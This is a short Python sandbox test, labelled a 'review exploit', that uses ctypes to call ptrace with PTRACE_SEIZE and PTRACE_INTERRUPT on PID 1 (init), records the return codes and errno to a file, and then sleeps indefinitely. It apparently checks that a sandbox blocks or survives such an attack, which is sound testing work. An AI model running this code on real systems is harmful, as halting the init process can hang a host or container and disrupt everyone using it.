# Review exploit (tests/sandbox/test_review_deadline_ptrace.py): stops PID 1 with ptrace.
import ctypes, os, time, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
r = libc.ptrace(0x4206, 1, None, None)  # PTRACE_SEIZE init
r2 = libc.ptrace(0x4207, 1, None, None) # PTRACE_INTERRUPT
open(sys.argv[1], "w").write(f"seize {r} interrupt {r2} errno {ctypes.get_errno()}\n")
while True:
    time.sleep(3600)
